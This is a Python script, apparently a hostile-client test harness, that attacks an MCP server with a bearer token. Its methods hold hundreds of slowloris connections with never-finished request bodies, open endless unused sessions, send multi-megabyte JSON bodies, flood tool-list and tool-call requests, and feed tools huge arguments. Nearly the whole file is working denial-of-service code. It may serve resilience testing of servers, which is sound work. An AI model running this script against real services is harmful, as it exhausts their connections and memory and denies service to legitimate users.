"""A participant of an event who takes all they can get, until they are ended: a program with an address and a token.

They open connections with bodies that never end, sessions that they do not use, large bodies, lists and calls without
a pause, and in a run of their own they have tools work on as much as tools take.
"""

import asyncio
import json
import re
import socket
import sys
from contextlib import suppress
from urllib.parse import urlsplit

import anyio
from anyio.abc import TaskStatus

SESSIONS, SLOW, LARGE, FLOODS, WORKERS = 300, 400, 4, 8, 4
NUMBERS = 100_000


class Hostile:
    """What one person with one token does to a server."""

    def __init__(self, url: str, token: str) -> None:
        place = urlsplit(url)
        self._address = (place.hostname or "", place.port or 0)
        self._head = (
            f"POST /mcp HTTP/1.1\r\nhost: {place.netloc}\r\nauthorization: Bearer {token}\r\n"
            "accept: application/json, text/event-stream\r\ncontent-type: application/json\r\n"
        )

    async def all_at_once(self) -> None:
        """Everything, again and again."""
        async with anyio.create_task_group() as tasks:
            await tasks.start(self._slow)
            print("at work", flush=True)
            for work in (self._idle, *[self._large] * LARGE, *[self._flood] * FLOODS, *[self._work] * WORKERS):
                tasks.start_soon(work)

    async def _slow(self, *, task_status: TaskStatus[None]) -> None:
        """Bodies that are never complete."""
        held: list[socket.socket] = []
        while True:
            opened = socket.socket()
            opened.setblocking(False)
            with suppress(OSError):
                await asyncio.get_running_loop().sock_connect(opened, self._address)
                await asyncio.get_running_loop().sock_sendall(
                    opened, f"{self._head}content-length: 1000000\r\n\r\n{{".encode()
                )
            held.append(opened)
            if len(held) == SLOW:
                task_status.started()
            if len(held) > SLOW:
                held.pop(0).close()
            await anyio.sleep(0.002)

    async def _idle(self) -> None:
        """Sessions that nobody uses."""
        for number in range(10**9):
            await self._exchange(_initialize(number))
            if number > SESSIONS:
                await anyio.sleep(0.01)

    async def _large(self) -> None:
        """Bodies as large as are taken."""
        body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {"x": [1] * 4_000_000}})
        while True:
            await self._exchange(body.encode())
            await anyio.sleep(0.05)

    async def _flood(self) -> None:
        """Lists and calls without a pause."""
        session = await self._session()
        while True:
            if not await self._call(session, "list_tasks"):
                await anyio.sleep(0.01)

    async def _work(self) -> None:
        """Large arguments for the tools of a run."""
        session = await self._session()
        offered = await self._call(session, "list_tasks")
        for task in re.findall(rb"- (\w+)", offered):
            await self._call(session, "start_task", task_id=task.decode())
        while True:
            if not await self._call(session, "math__sum", numbers=[1] * NUMBERS):
                await anyio.sleep(0.01)

    async def _session(self) -> str:
        """The header of a new session; empty when there is none."""
        first = await self._exchange(_initialize(0))
        found = [line for line in first.splitlines() if line.lower().startswith(b"mcp-session-id")]
        return found[0].decode() + "\r\n" if found else ""

    async def _call(self, session: str, tool: str, **arguments: object) -> bytes:
        body = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": tool, "arguments": arguments}}
        return await self._exchange(json.dumps(body).encode(), session)

    async def _exchange(self, body: bytes, headers: str = "") -> bytes:
        """The answer to a request; empty when there is none."""
        try:
            reader, writer = await asyncio.open_connection(*self._address)
        except OSError:
            return b""
        try:
            head = f"{self._head}{headers}connection: close\r\ncontent-length: {len(body)}\r\n\r\n"
            writer.write(head.encode() + body)
            return await asyncio.wait_for(reader.read(), 20)
        except (OSError, TimeoutError):
            return b""
        finally:
            writer.close()


def _initialize(number: int) -> bytes:
    info = {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "hostile", "version": "1"}}
    return json.dumps({"jsonrpc": "2.0", "id": number, "method": "initialize", "params": info}).encode()


if __name__ == "__main__":
    anyio.run(Hostile(sys.argv[1], sys.argv[2]).all_at_once)
